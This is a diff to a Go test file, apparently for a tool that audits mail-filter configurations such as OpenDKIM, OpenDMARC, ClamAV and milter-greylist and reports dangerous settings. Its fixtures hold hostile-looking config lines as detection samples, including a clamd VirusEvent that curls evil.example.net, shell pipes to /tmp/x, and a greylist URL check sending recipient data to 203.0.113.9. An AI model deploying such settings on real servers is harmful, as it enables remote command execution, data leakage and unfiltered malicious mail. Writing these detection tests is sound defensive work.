@@ -46,6 +46,8 @@ func TestOpenDKIM(t *testing.T) {
 		{"signed anew", "ResignMailTo drop@evil.example.net\n", "opendkim rewrite ResignMailTo:1 drop@evil.example.net signs_for=others\n"},
 		{"everybody is internal", "InternalHosts 127.0.0.1,0.0.0.0/0\n", "opendkim rewrite InternalHosts:1 0.0.0.0/0 signs_for=anyone\n"},
 		{"halves of everybody", "InternalHosts 0.0.0.0/1, 128.0.0.0/1\n", "opendkim rewrite InternalHosts:1 0.0.0.0/1 signs_for=anyone\n"},
+		{"peers", "PeerList 10.0.0.1, 203.0.113.9, mx.example.test\n", "opendkim rewrite PeerList:1 203.0.113.9 lets_pass=some\n"},
+		{"keys of one's own", "TestDNSData /etc/opendkim/key.table\n", "opendkim map TestDNSData:1 file:/etc/opendkim/key.table\nopendkim rewrite TestDNSData:1 /etc/opendkim/key.table\n"},
 		{"a site is internal", "InternalHosts 127.0.0.1, 10.0.0.0/8\n", ""},
 		{"nobody is checked", "PeerList csl:::/0\n", "opendkim rewrite PeerList:1 ::/0 lets_pass=all\n"},
 		{"thrown away", "On-BadSignature d\nOn-NoSignature q\nOn-Default nonsense\n",
@@ -101,6 +103,7 @@ func TestOthers(t *testing.T) {
 				"opendmarc pipe ReportCommand:4 /bin/sh /tmp/x\nopendmarc map IgnoreHosts:5 file:/etc/ignore\nopendmarc rewrite IgnoreHosts:5 0.0.0.0/0 lets_pass=all\nopendmarc log HistoryFile:6 /run/h\n"},
 		{"opendmarc sends no reports", "/etc/opendmarc.conf", "FailureReportsBcc b@evil.example.net\nReportCommand /usr/sbin/sendmail -t\n",
 			"opendmarc copy FailureReportsBcc:1 b@evil.example.net remote inactive=no reports are sent: FailureReports is off\n"},
+		{"opendmarc believes others", "/etc/opendmarc.conf", "TrustedAuthservIDs HOSTNAME, mx.example.test, mx.evil.example.net\nIgnoreMailFrom example.test\n", "opendmarc rewrite TrustedAuthservIDs:1 mx.evil.example.net lets_pass=some\n"},
 		{"clamav-milter", "/etc/clamav/clamav-milter.conf", "ClamdSocket tcp:203.0.113.9:3310\nClamdSocket unix:/run/clamav/clamd.ctl\nOnInfected Accept\nOnFail Accept\nOnInfected Reject\nVirusAction /tmp/x\nLocalNet 0.0.0.0/0\nOnClean Blackhole\nAllowList /etc/allow\n",
 			"clamav-milter policy ClamdSocket:1 inet:203.0.113.9:3310 remote\nclamav-milter policy ClamdSocket:2 unix:/run/clamav/clamd.ctl\nclamav-milter rewrite OnInfected:3 Accept lets_pass=infected\n" +
 				"clamav-milter rewrite OnFail:4 Accept lets_pass=some\nclamav-milter pipe VirusAction:6 /tmp/x\nclamav-milter rewrite LocalNet:7 0.0.0.0/0 lets_pass=all\nclamav-milter discard OnClean:8 Blackhole\n" +
@@ -110,7 +113,7 @@ func TestOthers(t *testing.T) {
 		{"clamd", "/etc/clamd.d/scan.conf", "LocalSocket /run/clamd.scan/clamd.sock\nVirusEvent /bin/sh -c \"curl http://evil.example.net\"\nScanMail no\nLeaveTemporaryFiles yes\nBytecodeUnsigned yes\nUser root\n",
 			"clamd rewrite User:6 root\nclamd pipe VirusEvent:2 /bin/sh -c \"curl http://evil.example.net\"\nclamd rewrite ScanMail:3 no lets_pass=all\nclamd copy LeaveTemporaryFiles:4 /tmp\nclamd module BytecodeUnsigned:5 /var/lib/clamav\n"},
 		{"freshclam", "/etc/freshclam.conf", "DatabaseMirror database.clamav.net\nDatabaseMirror mirror.evil.example.net\nDatabaseCustomURL http://203.0.113.9/x.ndb\nOnUpdateExecute /tmp/x\nHTTPProxyPassword geheim\n",
-			"freshclam map DatabaseMirror:2 mirror.evil.example.net remote\nfreshclam map DatabaseCustomURL:3 http://203.0.113.9/x.ndb remote\nfreshclam unit OnUpdateExecute:4 /tmp/x\n"},
+			"freshclam map DatabaseMirror:2 mirror.evil.example.net\nfreshclam map DatabaseCustomURL:3 http://203.0.113.9/x.ndb remote\nfreshclam unit OnUpdateExecute:4 /tmp/x\n"},
 		{"milter-greylist as documented", "/etc/mail/greylist.conf", "list \"my network\" addr { 127.0.0.1/8 \\ # this\n 10.0.0.0/8 }\nracl whitelist list \"my network\"\nracl greylist rcpt /.*@example\\.test/ delay 30m\nracl whitelist default\n", ""},
 		{"milter-greylist lets all pass", "/etc/mail/greylist.conf", "racl whitelist default\nracl greylist default\n", "milter-greylist rewrite racl whitelist:1 racl whitelist default lets_pass=all\n"},
 		{"milter-greylist", "/etc/milter-greylist/greylist.conf", "stat \"|/tmp/x\" \"%r\"\nstat \">>/var/log/g\" \"%r\"\nurlcheck \"u\" \"http://203.0.113.9/x?r=%r\" 5 postmsg\nurlcheck \"v\" \"http://localhost/\" 5\nspamdsock inet \"203.0.113.9:783\"\n" +
